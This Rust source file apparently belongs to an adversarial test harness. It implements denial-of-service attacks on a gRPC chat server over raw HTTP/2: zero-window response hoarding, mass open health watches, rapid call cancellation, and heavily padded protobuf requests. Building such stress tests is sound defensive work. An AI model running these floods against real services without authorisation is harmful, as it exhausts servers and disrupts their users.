@@ -1,0 +1,189 @@
+//! Attacks by gRPC calls, made with bare HTTP/2 so that windows, padding and resets are the
+//! attacker's choice.
+
+use std::error::Error;
+use std::sync::Arc;
+use std::time::Duration;
+
+use bytes::{BufMut as _, Bytes, BytesMut};
+use gimlet_proto::pb;
+use h2::client::{Builder, ResponseFuture, SendRequest};
+use http::Request;
+use prost::Message as _;
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+use tokio::time::{interval, sleep, timeout};
+
+use super::tally::Tally;
+use super::target::Squad;
+use super::wire::PATIENCE;
+use crate::account::Account;
+
+/// Answers asked for and never read.
+pub(super) const HOARDED: usize = 256;
+/// Groups of the account whose list is asked for.
+const GROUPS: usize = 200;
+/// Health watches that stay open.
+pub(super) const WATCHES: usize = 500;
+/// Calls that are cancelled at once, in each burst.
+pub(super) const CANCELLED: usize = 20;
+/// Bytes of padding around a room message of one byte.
+const PADDING: usize = 250_000;
+
+type Failed = Box<dyn Error + Send + Sync>;
+
+/// A bare HTTP/2 connection; its driver ends with it.
+struct Calls {
+    send: SendRequest<Bytes>,
+    authority: String,
+    _driver: JoinSet<()>,
+}
+
+impl Calls {
+    async fn connect(squad: &Squad, window: u32) -> Result<Self, Failed> {
+        let authority = squad.field.grpc.trim_start_matches("http://").to_owned();
+        let stream = timeout(PATIENCE, TcpStream::connect(&authority)).await??;
+        let mut builder = Builder::new();
+        builder.initial_window_size(window);
+        let (send, connection) = builder.handshake(stream).await?;
+        let mut driver = JoinSet::new();
+        driver.spawn(async move {
+            // Its end is seen by the next call.
+            let _ = connection.await;
+        });
+        Ok(Self {
+            send,
+            authority,
+            _driver: driver,
+        })
+    }
+
+    async fn call(
+        &mut self,
+        path: &str,
+        who: Option<&Account>,
+        message: Vec<u8>,
+    ) -> Result<ResponseFuture, Failed> {
+        let mut request = Request::builder()
+            .method("POST")
+            .uri(format!("http://{}{path}", self.authority))
+            .header("content-type", "application/grpc")
+            .header("te", "trailers");
+        if let Some(who) = who {
+            request = request
+                .header("user_id", who.user)
+                .header("device_id", who.device)
+                .header("token", &who.token);
+        }
+        let mut body = BytesMut::with_capacity(message.len() + 5);
+        body.put_u8(0);
+        body.put_u32(u32::try_from(message.len())?);
+        body.extend_from_slice(&message);
+        let mut ready = timeout(PATIENCE, self.send.clone().ready()).await??;
+        let (answer, mut stream) = ready.send_request(request.body(())?, false)?;
+        stream.send_data(body.freeze(), true)?;
+        Ok(answer)
+    }
+}
+
+/// Runs an attack over one connection again and again.
+async fn again<F: Future<Output = Result<(), Failed>>>(
+    tally: &Tally,
+    mut attack: impl FnMut() -> F,
+) {
+    loop {
+        if let Err(why) = attack().await {
+            tally.refused(&why);
+        }
+        sleep(Duration::from_millis(200)).await;
+    }
+}
+
+/// Asks for large answers with a flow-control window of 0, and holds them.
+pub(super) async fn hoard(squad: Squad, tally: Arc<Tally>) {
+    let account = squad.spare(5);
+    let api = squad.as_account(&account);
+    for n in 0..GROUPS {
+        tally.counts(
+            api.create_group(&format!("{n} {}", "g".repeat(40)), &[])
+                .await,
+        );
+    }
+    again(&tally, || async {
+        let mut calls = Calls::connect(&squad, 0).await?;
+        let mut held = Vec::new();
+        for _ in 0..HOARDED {
+            tally.tries();
+            let call = calls.call("/pb.LogicExt/GetGroups", Some(&account), Vec::new());
+            held.push(call.await?);
+        }
+        sleep(Duration::from_secs(30)).await;
+        Ok(())
+    })
+    .await;
+}
+
+/// Holds many health watches open.
+pub(super) async fn watches(squad: Squad, tally: Arc<Tally>) {
+    again(&tally, || async {
+        let mut calls = Calls::connect(&squad, 65_535).await?;
+        let mut held = Vec::new();
+        for _ in 0..WATCHES {
+            tally.tries();
+            let call = calls.call("/grpc.health.v1.Health/Watch", None, Vec::new());
+            held.push(call.await?);
+        }
+        sleep(Duration::from_secs(30)).await;
+        Ok(())
+    })
+    .await;
+}
+
+/// Cancels calls as soon as they are made.
+pub(super) async fn cancels(squad: Squad, tally: Arc<Tally>) {
+    let account = squad.spare(6);
+    again(&tally, || async {
+        let mut calls = Calls::connect(&squad, 65_535).await?;
+        let mut tick = interval(Duration::from_millis(200));
+        loop {
+            tick.tick().await;
+            for _ in 0..CANCELLED {
+                tally.tries();
+                let call = calls.call("/pb.LogicExt/GetGroups", Some(&account), Vec::new());
+                drop(call.await?);
+            }
+        }
+    })
+    .await;
+}
+
+/// Room messages of one byte in requests that are mostly padding: an unknown field of the message.
+pub(super) async fn padded(squad: Squad, tally: Arc<Tally>) {
+    let account = squad.spare(7);
+    let mut message = pb::PushRoomReq {
+        room_id: 8_000_000,
+        message_type: 1,
+        message_content: Bytes::from_static(b"p"),
+        is_persist: true,
+        ..pb::PushRoomReq::default()
+    }
+    .encode_to_vec();
+    prost::encoding::encode_key(
+        1_000,
+        prost::encoding::WireType::LengthDelimited,
+        &mut message,
+    );
+    prost::encoding::encode_varint(PADDING as u64, &mut message);
+    message.resize(message.len() + PADDING, 0);
+    again(&tally, || async {
+        let mut calls = Calls::connect(&squad, 65_535).await?;
+        let mut tick = interval(Duration::from_millis(50));
+        loop {
+            tick.tick().await;
+            tally.tries();
+            let call = calls.call("/pb.LogicExt/PushRoom", Some(&account), message.clone());
+            timeout(PATIENCE, call.await?).await??;
+        }
+    })
+    .await;
+}
